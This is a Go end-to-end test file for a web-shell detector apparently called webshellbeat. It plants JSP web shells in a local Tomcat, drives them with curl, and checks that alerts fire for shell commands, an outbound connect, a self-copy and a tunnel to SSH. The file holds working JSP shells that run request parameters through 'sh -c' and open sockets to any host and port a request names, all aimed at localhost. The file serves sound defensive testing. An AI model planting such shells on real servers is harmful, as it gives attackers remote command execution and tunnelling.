//go:build linux

package tests

import (
	"fmt"
	"os"
	"os/exec"
	"os/user"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"webshellbeat/config"
	"webshellbeat/detection"
	"webshellbeat/detector"
	"webshellbeat/hunt"
)

// The Tomcat site of .ci/linux-e2e.sh.
const (
	tomcatPort    = 18082
	tomcatHome    = "/usr/share/tomcat10"
	tomcatBase    = "/var/lib/tomcat10"
	tomcatWebapps = tomcatBase + "/webapps"
	tomcatLog     = "/var/log/tomcat10/wsb-access.log"
)

// A JSP web shell: runs its c parameter through sh -c, as the JSP shells
// of the wild do with Runtime.exec.
const jspShell = `<%@ page import="java.io.*" contentType="text/plain" %><%
String c = request.getParameter("c");
if (c != null) {
  Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", c});
  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
  for (String l; (l = r.readLine()) != null; ) { out.println(l); }
  p.waitFor();
}
%>
`

// tunnelJSP connects Tomcat's own JVM to the host and port its request
// names, as a tunnelling web shell's connect command does.
const tunnelJSP = `<%@ page import="java.net.*" contentType="text/plain" %><%
Socket s = new Socket();
try { s.connect(new InetSocketAddress(request.getParameter("h"), Integer.parseInt(request.getParameter("p"))), 2000); out.println("open"); }
catch (Exception e) { out.println(e); } finally { s.close(); }
%>
`

// startTomcat runs Tomcat as the tomcat user, as its service does, and
// stops it (SIGTERM to the JVM) at cleanup.
func startTomcat(t *testing.T) {
	t.Helper()
	// The pid file's folder must be one the tomcat user can reach: t.TempDir
	// sits in a folder only root may enter.
	pidDir, err := os.MkdirTemp("", "wsb-tomcat-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(pidDir) })
	if err := os.Chmod(pidDir, 0o777); err != nil {
		t.Fatal(err)
	}
	pidFile := filepath.Join(pidDir, "tomcat.pid")
	cmd := exec.Command("runuser", "-u", "tomcat", "--", "env", "CATALINA_HOME="+tomcatHome, "CATALINA_BASE="+tomcatBase,
		"CATALINA_TMPDIR=/tmp", "CATALINA_PID="+pidFile, "JAVA_OPTS=-Djava.awt.headless=true", tomcatHome+"/bin/catalina.sh", "start")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("catalina.sh start: %v\n%s", err, out)
	}
	t.Cleanup(func() {
		b, err := os.ReadFile(pidFile)
		pid, _ := strconv.Atoi(strings.TrimSpace(string(b)))
		if err != nil || pid <= 0 {
			t.Errorf("no Tomcat pid in %s (%v): stopping it by its command line", pidFile, err)
			_ = exec.Command("pkill", "-f", "-Dcatalina.base="+tomcatBase).Run()
			waitClosed(tomcatPort)
			return
		}
		_ = syscall.Kill(pid, syscall.SIGTERM)
		for i := 0; i < 200 && syscall.Kill(pid, 0) == nil; i++ {
			time.Sleep(50 * time.Millisecond)
		}
		waitClosed(tomcatPort)
	})
	for deadline := time.Now().Add(60 * time.Second); ; time.Sleep(200 * time.Millisecond) {
		if out, err := exec.Command("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", fmt.Sprintf("http://127.0.0.1:%d/", tomcatPort)).Output(); err == nil && string(out) == "200" {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("Tomcat does not answer on 127.0.0.1:%d", tomcatPort)
		}
	}
}

// TestLiveTomcat runs a real Tomcat 10 (java), plants a JSP web shell in
// its web root while the beat reads the kernel's audit stream and Tomcat's
// access log, drives the shell with curl, and checks what a Java web shell
// should raise: each command's shell alerted with java (Tomcat, known by
// its command line) in its ancestry and the request that drove it, the
// JSP's write and first use joined in one alert, and nothing high for the
// site's own pages; and a command's outbound connection, seen by an
// audit rule on the tomcat account's connect calls, alerts as one from a
// process under java; and java's own connection to SSH, asked for by a
// tunnel page, alerts as a web server's tunnel.
func TestLiveTomcat(t *testing.T) {
	liveReady(t)
	needFiles(t, "Tomcat", tomcatHome+"/bin/catalina.sh", tomcatLog, tomcatWebapps+"/ROOT/hello.jsp")
	shellPath := filepath.Join(tomcatWebapps, "ROOT", "cmd.jsp")
	tunnelPath := filepath.Join(tomcatWebapps, "ROOT", "tunnel.jsp")
	dropDir := filepath.Join(tomcatWebapps, "wsbup") // the shell's own drop: a new web app
	t.Cleanup(func() { _ = os.Remove(shellPath); _ = os.Remove(tunnelPath); _ = os.RemoveAll(dropDir) })
	_ = os.Remove(shellPath)
	_ = os.Remove(tunnelPath)
	_ = os.RemoveAll(dropDir)
	// Earlier runs' requests are not this run's (Tomcat appends, so the
	// file can be emptied under it).
	if err := os.Truncate(tomcatLog, 0); err != nil {
		t.Fatal(err)
	}
	startTomcat(t) // before the beat, as a server runs long before its agent

	tomcatUser, err := user.Lookup("tomcat")
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	cfg := fmt.Sprintf(`webshellbeat.inputs:
- type: auditd
  id: audit-live
  web_roots: [%q]
  # The connections of the tomcat account, for the outbound rule.
  audit_rules: |
    -a always,exit -F arch=b64 -S connect -F uid=%s -k web-net
`, tomcatWebapps, tomcatUser.Uid) + liveAccessInput("tomcat-live", tomcatLog, "tomcat") + `processors:
  - webshell: {events: all}
`
	stop := startLiveBeat(t, dir, cfg)

	base := fmt.Sprintf("http://127.0.0.1:%d", tomcatPort)
	benignStart := time.Now()
	curl(t, base+"/")
	if out := curl(t, base+"/hello.jsp"); !strings.Contains(out, "Hello from Apache Tomcat") {
		t.Fatalf("hello.jsp: %q", out)
	}
	time.Sleep(2 * time.Second)
	benignEnd := time.Now()

	// The attacker's JSP lands in the web root (how it got there, a
	// vulnerable upload or a deployed WAR, is not the point here).
	if err := os.WriteFile(shellPath, []byte(jspShell), 0o644); err != nil {
		t.Fatal(err)
	}
	// Tomcat's %t is when a request ended: the last command's shell
	// started 3 s before its line's time.
	cmds := []string{"whoami", "id", "uname -a", "sleep 3; id"}
	out := &outputTail{dir: filepath.Join(dir, "out")}
	for _, c := range cmds {
		sent := time.Now()
		if body := curl(t, base+"/cmd.jsp?c="+urlQuery(c)); strings.TrimSpace(body) == "" {
			t.Fatalf("cmd.jsp?c=%s answered nothing", c)
		}
		found := out.waitShellAlert(t, c, []string{"java"}, sent)
		if found == nil {
			t.Errorf("cmd.jsp?c=%s: no alert for `sh -c %s` with java in its ancestry within 20 s", c, c)
			continue
		}
		t.Logf("cmd.jsp?c=%-8s -> %q (user %s, severity %v, ancestry %v) in %v", c, detection.LookupString(found, "message"),
			detection.LookupString(found, "user.name"), lookup(found, "event.severity"), ancestry(found), time.Since(sent).Round(time.Millisecond))
	}

	// A command in a POST body, which Tomcat does not log: time alone ties
	// its shell to the request, only while no other script request shares
	// its seconds (a person typing into a web shell; a script firing
	// requests within one second is not linked: README). Tomcat times the
	// line when the request ended, after the shell started.
	time.Sleep(2 * time.Second)
	postCmd := fmt.Sprintf("echo wsbpost%d", time.Now().UnixNano())
	curl(t, "--data-urlencode", "c="+postCmd, base+"/cmd.jsp")
	time.Sleep(2 * time.Second)

	// A command that calls out (here to Tomcat itself, the one server the
	// test has): its connection is alerted as one from a process under
	// java. Then the shell copies itself into a new web app, as the tomcat
	// account: a script written by a web-server account.
	curl(t, base+"/cmd.jsp?c="+urlQuery("curl -s -o /dev/null http://127.0.0.1:18082/hello.jsp"))
	curl(t, base+"/cmd.jsp?c="+urlQuery("mkdir "+dropDir+" && cp "+shellPath+" "+dropDir+"/s.jsp"))
	// A tunnel page (reGeorg's, Neo-reGeorg's way): java itself connects
	// where the request says, here to SSH on the host, and no process
	// starts. Refused or not, the connect call is the tunnel's.
	if err := os.WriteFile(tunnelPath, []byte(tunnelJSP), 0o644); err != nil {
		t.Fatal(err)
	}
	curl(t, base+"/tunnel.jsp?h=127.0.0.1&p=22")
	time.Sleep(2 * time.Second)
	if _, err := os.Stat(dropDir + "/s.jsp"); err != nil {
		t.Errorf("the shell's copy of itself: %v", err)
	}
	docs := readDocs(t, dir)
	writes := alertedBy(docs, "20c04b82-a4c5-4699-a858-32f57e48b0ca", func(d map[string]any) string {
		return detection.LookupString(d, "user.name") + " " + detection.LookupString(d, "process.name") + " " + detection.LookupString(d, "file.path")
	})
	t.Logf("script writes alerted (user, process, file): %q", writes)
	if !slices.Contains(writes, "tomcat cp "+dropDir+"/s.jsp") || slices.ContainsFunc(writes, func(w string) bool { return strings.HasSuffix(w, "/cmd.jsp") }) {
		t.Errorf("script writes alerted: %q; want the shell's copy by tomcat, not the test's own write of cmd.jsp (root)", writes)
	}
	outbound := alertedBy(docs, "7b80973f-9c21-49d2-8e9a-ddf5fad60cb3", func(d map[string]any) string {
		return fmt.Sprintf("%s -> %s:%v", detection.LookupString(d, "process.name"), detection.LookupString(d, "destination.ip"), lookup(d, "destination.port"))
	})
	t.Logf("outbound connections alerted: %q", outbound)
	tunnels := alertedBy(docs, "6476d874-283d-45bb-bc90-b0b9d1386e4e", func(d map[string]any) string {
		return fmt.Sprintf("%s -> %s:%v", detection.LookupString(d, "process.name"), detection.LookupString(d, "destination.ip"), lookup(d, "destination.port"))
	})
	if !slices.Equal(tunnels, []string{"java -> 127.0.0.1:22"}) {
		t.Errorf("web-server tunnel connections alerted: %q; want java's to 127.0.0.1:22 only", tunnels)
	}
	// Only curl's: java's own are no child's, and the Unix-socket connects
	// of whoami, id and curl (name service lookups) are no network's.
	if !slices.Equal(outbound, []string{"curl -> 127.0.0.1:18082"}) {
		t.Errorf("outbound connections alerted: %q; want curl's to 127.0.0.1:18082 only", outbound)
	}
	for _, c := range cmds {
		if !slices.ContainsFunc(docs, func(d map[string]any) bool {
			return isShellAlert(d, c, []string{"java"}, time.Time{}) && strings.HasPrefix(detection.LookupString(d, "webshell.request.url.original"), "/cmd.jsp?")
		}) {
			t.Errorf("cmd.jsp?c=%s: no alert of its shell carries the request (webshell.request.url.original)", c)
		}
	}
	if !slices.ContainsFunc(docs, func(d map[string]any) bool {
		return isShellAlert(d, postCmd, []string{"java"}, time.Time{}) && detection.LookupString(d, "webshell.request.url.original") == "/cmd.jsp"
	}) {
		t.Errorf("POST /cmd.jsp c=%s: no alert of its shell carries the request", postCmd)
		for _, d := range docs {
			if strings.HasPrefix(detection.LookupString(d, "url.original"), "/cmd.jsp") || strings.Contains(detection.LookupString(d, "process.command_line"), "sh -c") {
				t.Logf("%s %s %s %q %q request %q evidence %v", lookup(d, "@timestamp"), lookup(d, "event.kind"), lookup(d, "http.request.method"), lookup(d, "url.original"),
					lookup(d, "process.command_line"), lookup(d, "webshell.request.url.original"), lookup(d, "webshell.request.evidence"))
			}
		}
	}
	uploads := 0
	for _, d := range docs {
		if slices.Contains(ids(d), "2f6c1a4e-8d3b-4f7a-9c2e-5b1d0e7a3c91") && strings.HasSuffix(detection.LookupString(d, "file.path"), "/cmd.jsp") {
			uploads++
		}
		sev, _ := lookup(d, "event.severity").(float64)
		if detection.LookupString(d, "event.kind") != "alert" || sev < 73 || isDerived(d) {
			continue
		}
		benign := slices.Contains([]string{"/", "/hello.jsp"}, detection.LookupString(d, "url.original"))
		if ts, err := time.Parse(time.RFC3339Nano, detection.LookupString(d, "@timestamp")); err == nil && detection.LookupString(d, "url.original") == "" {
			benign = !ts.Before(benignStart) && ts.Before(benignEnd)
		}
		if benign {
			t.Errorf("the site's own pages raised a high alert: %q %q, rules %v", detection.LookupString(d, "process.command_line"), detection.LookupString(d, "url.original"), ids(d))
		}
	}
	if uploads != 1 {
		t.Errorf("%d upload-then-use alerts for cmd.jsp, want 1", uploads)
	}
	// cmd.jsp's Runtime.exec("sh", ...) tries execve in each folder of
	// Tomcat's PATH before the one that has sh.
	if n := checkFailedExecs(t, docs); n == 0 {
		t.Log("no failed execve: sh was in the first folder of Tomcat's PATH")
	}

	stop() // and the audit rules that were there before are back
}

// A JSP web shell that runs its parameter as a program (Runtime.exec, no
// shell) and lets the failure through, asked for a program that is not
// there: real Tomcat logs the exception in its localhost log, hunt raises
// "Java Web Application Could Not Run a Program" on the cause that names
// the program, and the beat's tomcat_error module gives hunt's events and
// alerts.
func TestLiveTomcatErrorLog(t *testing.T) {
	liveReady(t)
	needFiles(t, "Tomcat", tomcatHome+"/bin/catalina.sh")
	shellPath := filepath.Join(tomcatWebapps, "ROOT", "exec.jsp")
	if err := os.WriteFile(shellPath, []byte(`<%@ page contentType="text/plain" %><% out.println(Runtime.getRuntime().exec(request.getParameter("c")).waitFor()); %>`+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = os.Remove(shellPath) })
	startTomcat(t)
	nonce := fmt.Sprintf("wsbmissing%d", time.Now().UnixNano())
	curl(t, fmt.Sprintf("http://127.0.0.1:%d/exec.jsp?c=%s", tomcatPort, nonce)) // answered 500

	cause := `Cannot run program "` + nonce + `"`
	var logFile string
	for deadline := time.Now().Add(15 * time.Second); logFile == "" && time.Now().Before(deadline); time.Sleep(200 * time.Millisecond) {
		logs, _ := filepath.Glob("/var/log/tomcat10/localhost.*.log") // JULI's file handler writes asynchronously
		for _, f := range logs {
			if b, _ := os.ReadFile(f); strings.Contains(string(b), cause) {
				logFile = f
			}
		}
	}
	if logFile == "" {
		t.Fatalf("no %s in Tomcat's localhost log", cause)
	}
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	if _, err := hunt.Run([]string{logFile}, det, func(a map[string]any) {
		if strings.Contains(detection.LookupString(a, "event.original"), cause) {
			found = append(found, detection.LookupStrings(a, "rule.name")...)
		}
	}, nil); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(found, []string{"Java Web Application Could Not Run a Program"}) {
		t.Errorf("alerts on %s in %s: %q", cause, logFile, found)
	}
	if alerts := moduleMatchesHunt(t, map[string]string{"tomcat_error": logFile}); len(alerts) < 1 {
		t.Errorf("the beat's tomcat_error module on %s: no alert", logFile)
	}
}

// alertedBy describes each document that rule id alerted.
func alertedBy(docs []map[string]any, id string, describe func(map[string]any) string) []string {
	var out []string
	for _, d := range docs {
		if slices.Contains(ids(d), id) {
			out = append(out, describe(d))
		}
	}
	return out
}
